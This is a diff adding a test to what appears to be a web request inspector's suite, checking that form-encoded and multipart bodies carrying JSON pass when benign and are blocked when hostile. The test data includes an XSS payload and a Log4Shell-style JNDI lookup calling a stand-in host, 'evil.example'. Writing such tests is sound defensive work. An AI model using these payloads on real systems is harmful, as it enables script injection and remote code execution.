@@ -53,6 +53,33 @@ describe('the type of a parameter', () => {
     })
   }
 
+  test('holds for what a document in a field of a form says, in forms of both kinds', () => {
+    const types = compileParameterTypes({ 'body.payload.**': 'text' }, 'parameters')
+    const typeOf = ['application/x-www-form-urlencoded', 'multipart/form-data; boundary=b']
+    const sent = (value: string, settings = {}): readonly string[] => {
+      const document = JSON.stringify({ frame: { file: value } })
+      const part = '--b\r\nContent-Disposition: form-data; name="payload"\r\n\r\n'
+      return [`payload=${encodeURIComponent(document)}`, `${part}${document}\r\n--b--\r\n`].map(
+        (body, kind) =>
+          inspect(
+            {
+              method: 'POST',
+              target: '/hook',
+              headers: ['content-type', typeOf[kind] as string],
+              body: Buffer.from(body),
+            },
+            settings,
+          ).verdict,
+      )
+    }
+    for (const honest of ['C:\\Windows\\System32\\kernel32.dll', 'Ham & tee']) {
+      assert.deepEqual(sent(honest), ['block', 'block'], honest)
+      assert.deepEqual(sent(honest, { types }), ['pass', 'pass'], honest)
+    }
+    for (const attack of ['<script>alert(1)</script>', '${jndi:ldap://evil.example/a}'])
+      assert.deepEqual(sent(attack, { types }), ['block', 'block'], attack)
+  })
+
   test('holds for the parameter that is named, by pattern too, and for no other', () => {
     const types = compileParameterTypes({ 'body.items.*.note': 'text', 'body.**': 'word' }, 'parameters')
     const post = (document: unknown): string =>
